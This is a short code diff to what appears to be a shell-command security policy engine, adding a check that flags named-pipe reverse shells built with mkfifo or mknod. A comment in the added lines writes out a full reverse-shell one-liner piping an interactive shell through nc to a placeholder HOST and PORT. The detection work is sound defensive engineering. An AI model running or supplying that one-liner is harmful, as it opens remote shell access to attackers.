@@ -21,7 +21,7 @@ from core.policy import _knowledge as K
 from core.policy import _paths as P
 from core.policy import tables as T
 from core.policy.shell.common import show
-from core.policy.shell.effects.arguments import METADATA_READERS, copied_shell
+from core.policy.shell.effects.arguments import METADATA_READERS, copied_shell, fifo_remote_shell
 from core.policy.shell.effects.knowledge import (
     HANDLED,
     READ_ONLY,
@@ -263,6 +263,8 @@ class Dispatch:
         read_arguments(self, prog, args, metas[1:], ctx, target, stdin,
                        HANDLED if handler is not None or prog in ctx.funcs or prog in T.HTTP_METHODS else
                        READ_ONLY if prog in self.read_only else UNKNOWN)
+        if ctx.flags or prog == "mkfifo" or prog == "mknod":
+            fifo_remote_shell(prog, args, stdin, ctx, target)  # (mkfifo p; sh -i < p 2>&1 | nc HOST PORT > p)
         sender = prog in T.NETWORK_SENDERS or (prog in T.NETWORK_SENDER_COMMANDS and any(
             a in T.NETWORK_SENDER_COMMANDS[prog] for a in args[:4]))
         if type(stdin) is FileInput and sender:
